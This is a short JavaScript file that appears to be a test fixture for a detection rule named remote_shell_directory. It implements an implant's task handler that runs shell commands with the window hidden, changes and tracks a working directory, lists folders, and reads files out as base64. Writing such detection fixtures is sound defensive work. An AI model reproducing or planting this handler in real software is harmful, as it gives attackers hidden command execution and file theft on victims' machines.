// an implant's task table: the directory it keeps moves on a task, commands run there and files are read out
const cp = require('child_process');
const fs = require('fs');
const path = require('path');
let cwd = require('os').homedir();

function handle(t, done) {
  switch (t.k) {
    case 'sh':
      return cp.exec(t.v, { cwd, windowsHide: true }, (e, o, s) => done(o + s));
    case 'cd':
      // ruleid: remote_shell_directory
      cwd = path.resolve(cwd, t.v);
      return done(cwd);
    case 'ls':
      return done(fs.readdirSync(path.resolve(cwd, t.v || '.')));
    case 'get':
      return done(fs.readFileSync(path.resolve(cwd, t.v)).toString('base64'));
  }
}
module.exports = { handle };
